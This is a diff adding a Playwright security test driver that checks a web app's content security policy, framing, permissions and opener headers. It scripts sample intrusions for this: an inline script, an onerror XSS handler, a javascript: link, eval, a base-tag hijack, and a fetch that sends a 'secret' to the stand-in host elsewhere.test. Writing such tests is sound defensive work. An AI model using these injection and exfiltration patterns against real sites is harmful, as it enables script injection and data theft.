@@ -1,0 +1,203 @@
+import { expect, type Page } from '@playwright/test'
+
+/** Where nobody of ours is. */
+const ELSEWHERE = 'http://elsewhere.test'
+
+/** What somebody may try who can write into a page. Each sets `window.intruder` where it succeeds. */
+const INTRUSIONS = {
+  'an inline script': () => {
+    const script = document.createElement('script')
+    script.textContent = 'window.intruder = true'
+    document.body.append(script)
+  },
+  'a handler in markup': () => {
+    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.intruder = true">')
+  },
+  'a javascript: link': () => {
+    const link = document.createElement('a')
+    link.href = 'javascript:window.intruder = true'
+    document.body.append(link)
+    link.click()
+  },
+  eval: () => {
+    // Evaluated by a timer of the page, which unlike a debugger has no special rights.
+    Reflect.apply(setTimeout, window, ['window.intruder = true'])
+  },
+  'a script from elsewhere': () => {
+    const script = document.createElement('script')
+    script.src = 'http://elsewhere.test/intruder.js'
+    document.body.append(script)
+  },
+  'a script made of data': () => {
+    const script = document.createElement('script')
+    script.src = `data:text/javascript,${encodeURIComponent('window.intruder = true')}`
+    document.body.append(script)
+  },
+  'a worker made of a blob': () => {
+    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })))
+    worker.onmessage = () => Reflect.set(window, 'intruder', true)
+  },
+  'a style that draws over the page': () => {
+    const style = document.createElement('style')
+    style.textContent = 'body { display: none }'
+    document.body.append(style)
+    if (getComputedStyle(document.body).display === 'none') Reflect.set(window, 'intruder', true)
+  },
+  'a message home': () => {
+    void fetch('http://elsewhere.test/?secret').then(
+      () => Reflect.set(window, 'intruder', true),
+      () => undefined,
+    )
+  },
+  'another base for links': () => {
+    const base = document.createElement('base')
+    base.href = 'http://elsewhere.test/'
+    document.head.append(base)
+    if (!document.baseURI.startsWith(location.origin)) Reflect.set(window, 'intruder', true)
+  },
+  'a form that leads elsewhere': () => {
+    document.body.insertAdjacentHTML('beforeend', '<form action="http://elsewhere.test/"></form>')
+    const form = document.body.lastElementChild
+    if (form instanceof HTMLFormElement) form.submit()
+  },
+  'a frame of somebody else': () => {
+    const frame = document.createElement('iframe')
+    frame.src = 'http://elsewhere.test/'
+    document.body.append(frame)
+  },
+} satisfies Record<string, () => void>
+
+export type Intrusion = keyof typeof INTRUSIONS
+
+export const EVERY_INTRUSION = Object.keys(INTRUSIONS) as readonly Intrusion[]
+
+/** What the browser itself says of the headers: what it refused, and what it let through. */
+export class SecurityDriver {
+  readonly #page: Page
+  readonly #violations: string[] = []
+  #opened: Page | null = null
+
+  constructor(page: Page) {
+    this.#page = page
+  }
+
+  /** Notes whatever a policy refuses, in every document from now on, and answers for elsewhere. */
+  async watch(): Promise<void> {
+    await this.#page.exposeFunction('noteViolation', (violation: string) => void this.#violations.push(violation))
+    await this.#page.addInitScript(() => {
+      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile, lineNumber }) => {
+        const note: unknown = Reflect.get(window, 'noteViolation')
+        const violation = `${effectiveDirective}: ${blockedURI} (${sourceFile}:${lineNumber})`
+        if (typeof note === 'function') Reflect.apply(note, window, [violation])
+      })
+    })
+    await this.#page.route(`${ELSEWHERE}/**`, (route) =>
+      route.fulfill({
+        contentType: 'text/javascript',
+        headers: { 'Access-Control-Allow-Origin': '*' },
+        body: 'window.intruder = true',
+      }),
+    )
+  }
+
+  async whenTrying(intrusion: Intrusion): Promise<void> {
+    await this.#page.evaluate(INTRUSIONS[intrusion])
+  }
+
+  /** The browser has refused something, by this directive, and the page is unharmed. */
+  async thenWasRefusedBy(directive: string): Promise<void> {
+    await expect.poll(() => this.#violations.map((violation) => violation.split(':')[0])).toContain(directive)
+    expect(await this.#page.evaluate(() => Reflect.has(window, 'intruder'))).toBe(false)
+    expect(this.#page.url()).not.toContain(ELSEWHERE)
+  }
+
+  thenNothingWasRefused(): void {
+    expect(this.#violations).toEqual([])
+  }
+
+  /** Scripts are files, and no element says what is to be run. */
+  async thenNothingInlineIsThere(): Promise<void> {
+    const found = await this.#page.evaluate(() =>
+      [...document.querySelectorAll('*')].flatMap((element) => [
+        ...(element instanceof HTMLScriptElement && !element.src ? ['a script without a file'] : []),
+        ...element
+          .getAttributeNames()
+          .filter((name) => name.startsWith('on') || /^\s*javascript:/iu.test(element.getAttribute(name) ?? ''))
+          .map((name) => `${element.tagName} ${name}`),
+      ]),
+    )
+    expect(found).toEqual([])
+  }
+
+  /** The page as the server sends it, before any script. */
+  async thenIsServedWithoutAnythingInline(path: string): Promise<void> {
+    const answer = await this.#page.request.get(path)
+    const html = await answer.text()
+    expect(html).toContain('<!doctype html>')
+    expect(html.match(/<script(?![^>]*\ssrc=)[^>]*>|\son\w+\s*=|javascript:/giu)).toBeNull()
+  }
+
+  /** Puts an address of ours into a frame of somebody else's page, or of our own. */
+  async whenFraming(url: string, host: 'elsewhere' | 'here'): Promise<void> {
+    if (host === 'elsewhere') {
+      const body = '<!doctype html><title>Elsewhere</title>'
+      await this.#page.route(`${ELSEWHERE}/page`, (route) => route.fulfill({ contentType: 'text/html', body }))
+      await this.#page.goto(`${ELSEWHERE}/page`)
+    }
+    await this.#page.evaluate(
+      (address) =>
+        new Promise<void>((resolve) => {
+          const frame = document.createElement('iframe')
+          frame.onload = () => resolve()
+          frame.src = address
+          document.body.append(frame)
+        }),
+      url,
+    )
+  }
+
+  /** A browser shows a page of its own in place of one that it may not frame. */
+  async thenTheFrameIsEmpty(): Promise<void> {
+    const frames = this.#page.frames().slice(1)
+    expect(frames).toHaveLength(1)
+    for (const frame of frames) {
+      expect(await frame.locator('#root').count()).toBe(0)
+      expect(await frame.title().catch(() => '')).not.toContain('Mahlzeit')
+    }
+  }
+
+  /** What the browser lets the page ask for. */
+  async thenMayAskOnlyFor(features: readonly string[]): Promise<void> {
+    const states = await this.#page.evaluate(async (names) => {
+      const policy: unknown = Reflect.get(document, 'featurePolicy')
+      const allows: unknown = typeof policy === 'object' && policy !== null && Reflect.get(policy, 'allowsFeature')
+      if (typeof allows !== 'function') return []
+      return names.filter((name) => Reflect.apply(allows, policy, [name]) === true)
+    }, POWERFUL)
+    expect(states).toEqual(features)
+  }
+
+  /** Follows the link of the newest mail in the inbox, from the frame that the mail is shown in. */
+  async whenFollowingTheLinkOfTheNewestMail(): Promise<void> {
+    await this.#page.goto('/_local/inbox')
+    const opened = this.#page.context().waitForEvent('page')
+    await this.#page.locator('iframe').first().contentFrame().getByRole('link').first().click()
+    this.#opened = await opened
+  }
+
+  async thenTheSiteOpensBeside(): Promise<void> {
+    if (!this.#opened) throw new Error('No link was followed')
+    await expect(this.#opened.getByRole('heading').first()).toBeAttached()
+    expect(new URL(this.#opened.url()).origin).toBe(new URL(this.#page.url()).origin)
+  }
+
+  /** Its window is out of reach for those that opened it or were opened by it. */
+  async thenStandsAlone(): Promise<void> {
+    const popup = this.#page.context().waitForEvent('page')
+    await this.#page.evaluate((address) => Reflect.set(window, 'opened', window.open(address)), `${ELSEWHERE}/page`)
+    await (await popup).waitForLoadState()
+    expect(await (await popup).evaluate(() => window.opener === null)).toBe(true)
+  }
+}
+
+const POWERFUL = ['camera', 'geolocation', 'microphone', 'payment', 'usb', 'midi', 'display-capture']
